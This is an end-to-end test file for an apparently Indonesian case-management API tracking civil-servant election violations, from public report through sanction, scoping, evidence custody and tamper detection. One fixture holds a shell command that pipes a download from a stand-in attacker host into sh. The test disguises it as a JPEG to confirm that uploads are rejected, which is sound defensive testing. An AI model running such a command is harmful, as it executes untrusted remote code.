// End-to-end of the case API in-process: public report → case → verification → summons (letter) →
// minutes → study → recommendation → PPK decision → execution; the reporter's view by tracking code;
// scoping; evidence typed from content; the event chain detects tampering.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestRuntime, type TestRuntime } from '../../testing/test-runtime.ts';
import { buildCasesWorld, type CasesWorld } from './cases.fixtures.ts';

// Smallest valid PNG (1×1) and a PDF header; a "jpg" that is really a shell script.
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
  'hex',
);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');

const REPORT = {
  description:
    'ASN guru di Samarinda mengunggah foto bersama pasangan calon nomor 2 dengan pose dua jari dan ajakan memilih.',
  asnName: 'Bambang Uji Prasetyo',
  agency: 'Pemerintah Kota Samarinda (uji)',
  regionCode: '64.72',
  occurredAt: '2024-10-28',
  links: ['https://www.facebook.com/contoh/posts/123'],
  reporterName: 'Warga Pelapor',
  reporterEmail: 'pelapor@example.test',
};

describe('case handling through the API', () => {
  let rt: TestRuntime;
  let w: CasesWorld;
  let code: string;
  let caseId: string;
  beforeAll(async () => {
    rt = await createTestRuntime({ now: '2024-11-01T01:00:00Z' });
    w = await buildCasesWorld(rt);
  });
  afterAll(async () => {
    await rt?.close();
  });
  const json = async (r: Response) => {
    const t = await r.text();
    try {
      return JSON.parse(t);
    } catch {
      return t;
    }
  };

  it('accepts a public report with a file and returns an unguessable tracking code', async () => {
    const form = new FormData();
    form.append('report', JSON.stringify(REPORT));
    form.append('files', new Blob([PNG]), 'bukti.png');
    const r = await w.request('/api/public/reports', null, {
      method: 'POST',
      body: form,
      headers: { 'x-netra-device': 'device-aaaa-1111' },
    });
    const b = await json(r);
    expect(r.status, JSON.stringify(b)).toBe(201);
    expect(b.trackingCode).toMatch(/^LPR-[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}$/);
    code = b.trackingCode;
    const st = await json(await w.request(`/api/public/reports/${code}`, null));
    expect(st).toMatchObject({ trackingCode: code, status: 'received', evidenceCount: 2 });
    expect(JSON.stringify(st)).not.toMatch(/Pelapor|pelapor@|Bambang/);
  });

  it('refuses a bad region, a spoofed file, and a duplicate from another device', async () => {
    const bad = await w.request('/api/public/reports', null, {
      method: 'POST',
      json: { ...REPORT, regionCode: '99.99', description: REPORT.description + ' x' },
    });
    expect(bad.status).toBe(400);
    expect((await json(bad)).error.message).toMatch(/99\.99/);
    const form = new FormData();
    form.append('report', JSON.stringify({ ...REPORT, description: REPORT.description + ' (kedua)' }));
    form.append('files', new Blob([SCRIPT]), 'foto.jpg');
    const spoof = await w.request('/api/public/reports', null, { method: 'POST', body: form });
    expect(spoof.status).toBe(415);
    expect((await json(spoof)).error.message).toMatch(/foto\.jpg/);
    const again = await w.request('/api/public/reports', null, {
      method: 'POST',
      json: REPORT,
      headers: { 'x-netra-device': 'device-aaaa-1111' },
    });
    expect(await json(again)).toEqual({ trackingCode: code, duplicate: true });
    const other = await w.request('/api/public/reports', null, {
      method: 'POST',
      json: REPORT,
      headers: { 'x-netra-device': 'device-bbbb-2222', 'x-real-ip': '10.0.0.9' },
    });
    expect(other.status).toBe(409);
    expect((await json(other)).error.code).toBe('duplicate');
  });

  it('rate-limits one device', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) {
      const r = await w.request('/api/public/reports', null, {
        method: 'POST',
        json: {
          ...REPORT,
          description: `${REPORT.description} nomor ${i} berbeda`,
          reporterEmail: undefined,
        },
        headers: { 'x-netra-device': 'device-spam-0000' },
      });
      statuses.push(r.status);
    }
    expect(statuses).toEqual([201, 201, 201, 201, 201, 429]);
  });

  it('shows the report in the Samarinda triage queue, not in Balikpapan', async () => {
    const smd = await json(await w.request('/api/triage?kind=public_report', 'analystSmd'));
    const item = smd.items.find((i: any) => i.trackingCode === code);
    expect(item).toBeTruthy();
    expect(item.asn.id).toBe(w.asn.samarinda1);
    const bpp = await json(await w.request('/api/triage?kind=public_report', 'ppkBpp'));
    expect(bpp.error?.code).toBe('forbidden');
    const r = await w.request(`/api/triage/public_report/${item.id}/claim`, 'analystSmd', {
      method: 'POST',
      json: {},
    });
    expect(r.status).toBe(200);
    const open = await json(
      await w.request(`/api/triage/public_report/${item.id}/open-case`, 'analystSmd', {
        method: 'POST',
        json: {},
      }),
    );
    caseId = open.caseId;
    expect(caseId).toBeTruthy();
  });

  it('walks the case to an executed sanction; letters read back; reporter sees the stage', async () => {
    const t = (transition: string, fields: any = {}, as: any = 'analystSmd', reason?: string) =>
      w.request(`/api/cases/${caseId}/transitions`, as, {
        method: 'POST',
        json: { transition, fields, reason },
      });
    expect((await t('start_verification')).status).toBe(200);
    // A PPK cannot summon; an analyst without the hearing data is told which field is missing.
    const ppkTry = await t('summon', { hearingAt: '2024-11-05T02:00:00Z', hearingPlace: 'x' }, 'ppkSmd');
    expect(ppkTry.status, JSON.stringify(await json(ppkTry))).toBe(403);
    const missing = await t('summon', { hearingPlace: 'Kantor Bawaslu Kota Samarinda' });
    expect(missing.status).toBe(409);
    expect((await json(missing)).error.details.field).toBe('hearingAt');
    expect(
      (
        await t('summon', {
          hearingAt: '2024-11-05T02:00:00Z',
          hearingPlace: 'Kantor Bawaslu Kota Samarinda',
        })
      ).status,
    ).toBe(200);
    const docs = await json(
      await w.request(`/api/cases/${caseId}/documents`, 'analystSmd', {
        method: 'POST',
        json: { kind: 'summons' },
      }),
    );
    expect(docs.map((d: any) => d.format)).toEqual(['docx', 'pdf']);
    const pdf = await w.request(`/api/cases/${caseId}/documents/${docs[1].id}/file`, 'analystSmd');
    expect(pdf.headers.get('content-type')).toBe('application/pdf');
    const pdfPath = path.join(os.tmpdir(), `netra-summons-${process.pid}.pdf`);
    fs.writeFileSync(pdfPath, Buffer.from(await pdf.arrayBuffer()));
    const text = execFileSync('/usr/bin/pdftotext', ['-layout', pdfPath, '-']).toString();
    fs.rmSync(pdfPath);
    expect(text).toContain('UNDANGAN KLARIFIKASI');
    expect(text).toContain('Bambang Uji Prasetyo');
    expect(text).toContain('Selasa, 5 November 2024');
    expect(text).toMatch(/001\/UND\/.*\/XI\/2024/);
    expect((await t('begin_study')).status).toBe(409); // minutes not recorded yet
    const h = await w.request(`/api/cases/${caseId}/hearing`, 'analystSmd', {
      method: 'POST',
      json: {
        attendees: ['Bambang Uji Prasetyo', 'Staf Bawaslu'],
        qa: [{ question: 'Apakah akun itu milik Saudara?', answer: 'Ya, benar.' }],
      },
    });
    expect(h.status).toBe(200);
    expect((await t('begin_study')).status).toBe(200);
    expect(
      (await t('recommend', { ruleIds: ['skb-d07'], track: 'discipline', sanctionLevel: 'disiplin_berat' }))
        .status,
    ).toBe(200);
    let d = await json(await w.request(`/api/cases/${caseId}`, 'ppkSmd'));
    expect(d.status).toBe('recommendation');
    expect(d.recommendingBody).toBe('bkn'); // Nov 2024: BKN, not KASN
    // The recommendation letter cites the rule item with its rulebook title, read back from the .docx.
    const rec = await json(
      await w.request(`/api/cases/${caseId}/documents`, 'analystSmd', {
        method: 'POST',
        json: { kind: 'recommendation_letter' },
      }),
    );
    const recDocx = Buffer.from(
      await (await w.request(`/api/cases/${caseId}/documents/${rec[0].id}/file`, 'analystSmd')).arrayBuffer(),
    );
    const recPath = path.join(os.tmpdir(), `netra-rec-${process.pid}.docx`);
    fs.writeFileSync(recPath, recDocx);
    const recXml = execFileSync('unzip', ['-p', recPath, 'word/document.xml']).toString();
    fs.rmSync(recPath);
    expect(recXml).toContain('skb-d07 — Mengunggah foto bersama calon');
    expect(d.sanctionOptions).toEqual([
      'pp94_demotion_12m',
      'pp94_release_to_executor_12m',
      'pp94_honourable_dismissal',
    ]);
    expect(d.allowedTransitions.map((x: any) => x.transition)).toEqual(['record_ppk_decision']);
    expect(d.deadlines.find((x: any) => x.kind === 'ppk_follow_up').dueDate).toBe('2024-11-15');
    const wrong = await t(
      'record_ppk_decision',
      { sanctionOption: 'moral_open', decisionNumber: '800/1/BKPSDM', decidedAt: '2024-11-08' },
      'ppkSmd',
    );
    expect(wrong.status).toBe(409);
    expect(
      (
        await t(
          'record_ppk_decision',
          { sanctionOption: 'pp94_demotion_12m', decisionNumber: '800/1/BKPSDM', decidedAt: '2024-11-08' },
          'ppkSmd',
        )
      ).status,
    ).toBe(200);
    expect((await t('record_execution', { executedAt: '2024-11-10' }, 'ppkSmd')).status).toBe(200);
    d = await json(await w.request(`/api/cases/${caseId}`, 'analystSmd'));
    expect(d.status).toBe('sanction_executed');
    expect(d.timeline.filter((e: any) => e.type === 'transition').map((e: any) => e.toStatus)).toEqual([
      'verification',
      'clarification',
      'study',
      'recommendation',
      'ppk_decision',
      'sanction_executed',
    ]);
    const st = await json(await w.request(`/api/public/reports/${code}`, null));
    expect(st.status).toBe('sanction_executed');
    expect(st.history.map((x: any) => x.status)).toContain('recommendation');
  });

  it('scopes: the Balikpapan PPK neither lists nor opens the Samarinda case', async () => {
    const list = await json(await w.request('/api/cases', 'ppkBpp'));
    expect(list.items.map((c: any) => c.id)).not.toContain(caseId);
    expect((await w.request(`/api/cases/${caseId}`, 'ppkBpp')).status).toBe(404);
    const smd = await json(await w.request('/api/cases', 'ppkSmd'));
    expect(smd.items.map((c: any) => c.id)).toContain(caseId);
  });

  it('keeps the reporter identity for custodians only (audited)', async () => {
    expect((await w.request(`/api/cases/${caseId}/reporter`, 'analystSmd')).status).toBe(403);
    const r = await json(await w.request(`/api/cases/${caseId}/reporter`, 'custodian'));
    expect(r.items[0]).toMatchObject({ name: 'Warga Pelapor', email: 'pelapor@example.test' });
    const a = await rt.db.query(
      `SELECT count(*)::int AS n FROM audit_log WHERE action = 'reporter.read' AND entity_id = $1`,
      [caseId],
    );
    expect(a.rows[0].n).toBe(1);
  });

  it('refuses an analyst upload whose content is not what its name says, and logs custody', async () => {
    const form = new FormData();
    form.append('files', new Blob([SCRIPT], { type: 'image/jpeg' }), 'tangkapan.jpg');
    const r = await w.request(`/api/cases/${caseId}/evidence`, 'analystSmd', { method: 'POST', body: form });
    expect(r.status).toBe(415);
    const ok = new FormData();
    ok.append('files', new Blob([PNG]), 'layar.png');
    const ev = await json(
      await w.request(`/api/cases/${caseId}/evidence`, 'analystSmd', { method: 'POST', body: ok }),
    );
    const png = ev.find((e: any) => e.fileName === 'layar.png');
    expect(png).toMatchObject({
      mimeType: 'image/png',
      sha256:
        '2cdc6e4a03fc1bfe18a3d3b08d1fd6e2fd8f16f1b9a3b2c8e58c4d6d5e2e6d6f'.length === 64
          ? expect.any(String)
          : '',
    });
    const dl = await w.request(`/api/cases/${caseId}/evidence/${png.id}/file`, 'ppkSmd');
    expect(Buffer.from(await dl.arrayBuffer()).equals(PNG)).toBe(true);
    const custody = await json(
      await w.request(`/api/cases/${caseId}/evidence/${png.id}/custody`, 'custodian'),
    );
    expect(custody.items.map((x: any) => x.action)).toEqual(['added', 'downloaded']);
  });

  it('exports the filtered list as csv and xlsx', async () => {
    const csv = await w.request('/api/cases/export.csv?status=sanction_executed', 'analystSmd');
    const text = await csv.text();
    expect(text).toContain('Bambang Uji Prasetyo');
    expect(text.split('\r\n').filter(Boolean)).toHaveLength(2);
    const x = await w.request('/api/cases/export.xlsx', 'analystSmd');
    expect(
      Buffer.from(await x.arrayBuffer())
        .subarray(0, 2)
        .toString(),
    ).toBe('PK');
  });

  it('dashboard counts by stage and region', async () => {
    const d = await json(await w.request('/api/dashboard', 'analystNational'));
    expect(d.total).toBe(1);
    expect(d.byStage.find((b: any) => b.key === 'sanction_executed').count).toBe(1);
    expect(d.byRegion[0]).toMatchObject({ key: '64.72', count: 1 });
  });

  it('detects a changed and a deleted case_event row', async () => {
    expect((await rt.modules.cases.verifyChains()).case_event.problems).toEqual([]);
    const ev = await rt.db.query<{ seq: number }>(
      'SELECT seq FROM case_event WHERE case_id = $1 ORDER BY seq',
      [caseId],
    );
    await rt.db.query(`UPDATE case_event SET reason = 'diubah diam-diam' WHERE seq = $1`, [ev.rows[2].seq]);
    let v = await rt.modules.cases.verifyChains();
    expect(v.case_event.problems.map((p) => p.problem)).toContain('hash_mismatch');
    await rt.db.query(`UPDATE case_event SET reason = NULL WHERE seq = $1`, [ev.rows[2].seq]);
    expect((await rt.modules.cases.verifyChains()).case_event.problems).toEqual([]);
    await rt.db.query(`DELETE FROM case_event WHERE seq = $1`, [ev.rows[ev.rows.length - 1].seq]);
    v = await rt.modules.cases.verifyChains();
    expect(v.case_event.problems.map((p) => p.problem)).toEqual(
      expect.arrayContaining(['missing_events', 'head_mismatch']),
    );
  });
});

describe('scope on writes', () => {
  it('a Samarinda analyst cannot open a case or record a referral in Balikpapan', async () => {
    const rt = await createTestRuntime();
    try {
      const w = await buildCasesWorld(rt);
      const c = await w.request('/api/cases', 'analystSmd', {
        method: 'POST',
        json: {
          asnName: 'Rudi Sampel Hartono',
          regionCode: '64.71',
          description: 'Kasus di luar cakupan wilayah.',
        },
      });
      expect(c.status).toBe(403);
      const ok = await w.request('/api/cases', 'analystSmd', {
        method: 'POST',
        json: {
          asnName: 'Siti Contoh Rahmawati',
          asnId: w.asn.samarinda2,
          agencyId: w.agencies.samarinda,
          regionCode: '64.72',
          description: 'Kasus di dalam cakupan wilayah.',
        },
      });
      expect(ok.status).toBe(201);
    } finally {
      await rt.close();
    }
  });
});
